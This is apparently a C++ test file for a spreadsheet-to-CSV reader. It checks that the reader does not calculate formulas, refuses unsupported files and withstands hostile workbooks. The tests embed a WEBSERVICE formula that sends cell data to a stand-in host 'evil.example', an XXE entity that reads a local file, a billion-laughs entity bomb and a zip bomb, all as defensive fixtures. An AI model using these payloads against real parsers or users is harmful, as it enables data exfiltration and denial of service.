// Spreadsheets as people send them, and as attackers make them.

#include "tenant/platform/csv/spreadsheet.hpp"

#include <gmock/gmock.h>
#include <unistd.h>
#include <zlib.h>

#include <filesystem>
#include <fstream>

#include "tenant/platform/images/child.hpp"

namespace paraat::test {
namespace {

using testing::HasSubstr;

void put(std::string& out, std::uint32_t value, int bytes) {
  for (int i = 0; i < bytes; ++i) out += static_cast<char>(value >> (8 * i) & 0xffU);
}

std::string deflated(const std::string& content) {
  z_stream z{};
  deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&z, content.size()), '\0');
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(content.data()));
  z.avail_in = static_cast<uInt>(content.size());
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = static_cast<uInt>(out.size());
  deflate(&z, Z_FINISH);
  out.resize(z.total_out);
  deflateEnd(&z);
  return out;
}

// An archive of these files (PKWARE's APPNOTE, 4.3).
std::string archive(const std::vector<std::pair<std::string, std::string>>& files) {
  std::string out, directory;
  for (const auto& [name, content] : files) {
    const std::string packed = deflated(content);
    std::string head;
    put(head, 20, 2), put(head, 0, 2), put(head, 8, 2), put(head, 0, 4);
    put(head,
        static_cast<std::uint32_t>(
            crc32(0, reinterpret_cast<const Bytef*>(content.data()), static_cast<uInt>(content.size()))),
        4);
    put(head, static_cast<std::uint32_t>(packed.size()), 4),
        put(head, static_cast<std::uint32_t>(content.size()), 4);
    put(head, static_cast<std::uint32_t>(name.size()), 2), put(head, 0, 2);
    directory += "PK\x01\x02";
    put(directory, 20, 2);
    directory += head;
    put(directory, 0, 2), put(directory, 0, 2), put(directory, 0, 2), put(directory, 0, 4);
    put(directory, static_cast<std::uint32_t>(out.size()), 4);
    directory += name;
    out += "PK\x03\x04" + head + name + packed;
  }
  const auto at = static_cast<std::uint32_t>(out.size());
  out += directory + "PK\x05\x06";
  put(out, 0, 4), put(out, static_cast<std::uint32_t>(files.size()), 2);
  put(out, static_cast<std::uint32_t>(files.size()), 2),
      put(out, static_cast<std::uint32_t>(directory.size()), 4);
  put(out, at, 4), put(out, 0, 2);
  return out;
}

const std::string head = "<?xml version=\"1.0\"?>";
const std::string rels = "http://schemas.openxmlformats.org/package/2006/relationships";
const std::string main_ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const std::string doc_rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

std::string workbook(const std::string& rows, const std::string& before = {}) {
  return archive(
      {{"[Content_Types].xml",
        head + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override "
               "PartName=\"/xl/workbook.xml\" ContentType=\"application/"
               "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override "
               "PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/"
               "vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/><Override "
               "PartName=\"/xl/styles.xml\" "
               "ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/></"
               "Types>"},
       {"xl/workbook.xml",
        head + "<workbook xmlns=\"" + main_ns + "\" xmlns:r=\"" + doc_rels +
            "\"><sheets><sheet name=\"Blad1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"},
       {"xl/_rels/workbook.xml.rels", head + "<Relationships xmlns=\"" + rels +
                                          "\"><Relationship Id=\"rId1\" Type=\"" + doc_rels +
                                          "/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>"},
       {"xl/styles.xml",
        head + "<styleSheet xmlns=\"" + main_ns +
            "\"><cellXfs count=\"2\"><xf numFmtId=\"0\"/><xf numFmtId=\"14\"/></cellXfs></styleSheet>"},
       {"xl/worksheets/sheet1.xml", head + before + "<worksheet xmlns=\"" + main_ns + "\"><sheetData>" +
                                        rows + "</sheetData></worksheet>"}});
}

std::string text_cell(const std::string& at, const std::string& text) {
  return "<c r=\"" + at + "\" t=\"inlineStr\"><is><t>" + text + "</t></is></c>";
}

std::string said(std::string_view bytes) {
  const auto read = csv::from_spreadsheet(bytes);
  return read ? "read: " + *read : untranslated(read.error());
}

class Spreadsheets : public testing::Test {
 protected:
  void SetUp() override {
    if (!std::filesystem::exists("/usr/bin/xlsx2csv")) GTEST_SKIP() << "xlsx2csv is not installed";
  }
};

TEST_F(Spreadsheets, GiveTheValuesOfTheFirstSheetWithDatesThatSayWhichPartIsTheMonth) {
  EXPECT_EQ(said(workbook("<row r=\"1\">" + text_cell("A1", "Naam") + text_cell("B1", "Geboren") +
                          text_cell("C1", "GSM") + "</row><row r=\"2\">" + text_cell("A2", "Zoé; D’hondt") +
                          "<c r=\"B2\" s=\"1\"><v>32992</v></c><c r=\"C2\"><v>470112233</v></c></row>")),
            "read: Naam;Geboren;GSM\n\"Zoé; D’hondt\";1990-04-29;470112233\n");
}

TEST_F(Spreadsheets, CalculateNothing) {
  const std::string read =
      said(workbook("<row r=\"1\">" + text_cell("A1", "Naam") +
                    "<c r=\"B1\"><f>WEBSERVICE(\"http://evil.example/\"&amp;A1)</f><v>7</v></c></row>"));
  EXPECT_EQ(read, "read: Naam;7\n") << "the value that the program kept";
}

TEST_F(Spreadsheets, AreRefusedWithWhatToDo) {
  EXPECT_THAT(said("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old"), HasSubstr("oud rekenblad (.xls)"));
  std::string locked = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
  for (const char c : std::string("EncryptedPackage")) locked += c, locked += '\0';
  EXPECT_THAT(said(locked), HasSubstr("wachtwoord"));
  EXPECT_THAT(said(archive({{"word/document.xml", "<x/>"}})), HasSubstr("geen rekenblad van Excel"));
  EXPECT_THAT(said(workbook("<row r=\"1\">" + text_cell("A1", "Naam") + "</row>").substr(0, 400)),
              HasSubstr("We konden dit rekenblad niet lezen"));
  EXPECT_THAT(said(workbook("")), HasSubstr("staat niets"));
}

TEST_F(Spreadsheets, ABombIsGivenUpWithinItsBounds) {
  const std::string cell = text_cell("A1", std::string(1000, 'x'));
  std::string rows;
  for (int i = 1; i <= 60'000; ++i) rows += "<row r=\"" + std::to_string(i) + "\">" + cell + "</row>";
  const std::string bytes = workbook(rows);
  EXPECT_LT(bytes.size(), 1'000'000U) << "60 MB in less than one";
  EXPECT_THAT(said(bytes), testing::Not(HasSubstr("read:")));
}

TEST_F(Spreadsheets, EntitiesAreNeitherFetchedNorMultiplied) {
  const auto folder = std::filesystem::temp_directory_path() / "paraat-entity-secret";
  std::ofstream(folder) << "geheim";
  EXPECT_THAT(
      said(workbook("<row r=\"1\">" + text_cell("A1", "a&secret;b") + "</row>",
                    "<!DOCTYPE worksheet [<!ENTITY secret SYSTEM \"file://" + folder.string() + "\">]>")),
      testing::Not(HasSubstr("geheim")));
  std::filesystem::remove(folder);
  std::string bomb = "<!DOCTYPE worksheet [<!ENTITY e0 \"lol\">";
  for (int i = 1; i < 12; ++i) {
    bomb += "<!ENTITY e" + std::to_string(i) + " \"";
    for (int j = 0; j < 10; ++j) bomb += "&e" + std::to_string(i - 1) + ";";
    bomb += "\">";
  }
  EXPECT_THAT(said(workbook("<row r=\"1\">" + text_cell("A1", "&e11;") + "</row>", bomb + "]>")),
              testing::Not(HasSubstr("lollol")));
}

TEST_F(Spreadsheets, TheReaderHasNoNetwork) {
  const images::scratch_folder folder;
  const auto done =
      images::run_bounded(folder.path(), {"/bin/cat", "/proc/net/dev"}, std::chrono::seconds{5});
  ASSERT_TRUE(done);
  if (::geteuid() != 0) GTEST_SKIP() << "needs root, or user namespaces";
  EXPECT_THAT(done->output, testing::Not(HasSubstr("eth"))) << done->output;
}

}  // namespace
}  // namespace paraat::test
